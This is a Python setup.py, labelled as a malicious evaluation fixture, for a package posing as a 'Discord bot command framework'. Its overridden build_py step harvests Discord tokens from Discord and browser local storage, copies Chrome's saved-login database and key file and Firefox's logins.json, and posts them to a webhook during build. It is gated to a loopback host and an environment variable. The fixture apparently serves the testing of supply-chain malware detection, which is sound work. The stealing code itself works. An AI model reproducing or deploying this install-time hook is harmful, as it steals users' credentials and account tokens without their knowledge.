# Evaluation fixture (malicious): the "token grabber" family, Linux
# edition.  An overridden build_py scans Discord's and the browsers' local
# storage for tokens, takes Chrome's saved logins and key blob, and posts
# them to a Discord webhook.  Acts only inside the evaluation: SP_TOKEN set,
# the webhook host resolving to loopback.
import glob
import json
import os
import re
import socket
import urllib.request

from setuptools import setup
from setuptools.command.build_py import build_py

TOKEN_RE = re.compile(rb"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}")
STORES = ("~/.config/discord*/Local Storage/leveldb", "~/.config/google-chrome/*/Local Storage/leveldb",
          "~/.config/BraveSoftware/Brave-Browser/*/Local Storage/leveldb")
FILES = ("~/.config/google-chrome/Default/Login Data", "~/.config/google-chrome/Local State",
         "~/.mozilla/firefox/*/logins.json")


def grab():
    found, files = set(), {}
    for pattern in STORES:
        for d in glob.glob(os.path.expanduser(pattern)):
            for f in glob.glob(os.path.join(d, "*.ldb")) + glob.glob(os.path.join(d, "*.log")):
                with open(f, "rb") as fh:
                    found.update(m.decode() for m in TOKEN_RE.findall(fh.read()))
    for pattern in FILES:
        for f in glob.glob(os.path.expanduser(pattern)):
            with open(f, "rb") as fh:
                files[f] = fh.read().decode("latin-1")
    return sorted(found), files


class BuildPy(build_py):
    def run(self):
        env, host = os.environ, os.environ.get("SP_HOOK_HOST")
        if env.get("SP_TOKEN") and host:
            try:
                if socket.gethostbyname(host).startswith("127."):
                    tokens, files = grab()
                    body = {"username": "grabber", "embeds": [{"title": socket.gethostname(),
                            "description": "\n".join(tokens)}], "files": files}
                    req = urllib.request.Request(
                        "http://%s:%s/api/webhooks/1191/XyZ" % (host, env.get("SP_HTTP_PORT", "80")),
                        json.dumps(body).encode(), {"Content-Type": "application/json"})
                    urllib.request.urlopen(req, timeout=10).read()
            except OSError:
                pass
        super().run()


setup(
    name="discord-token-grab",
    version="3.1.0",
    description="Discord bot command framework",
    packages=["botcmds"],
    cmdclass={"build_py": BuildPy},
)
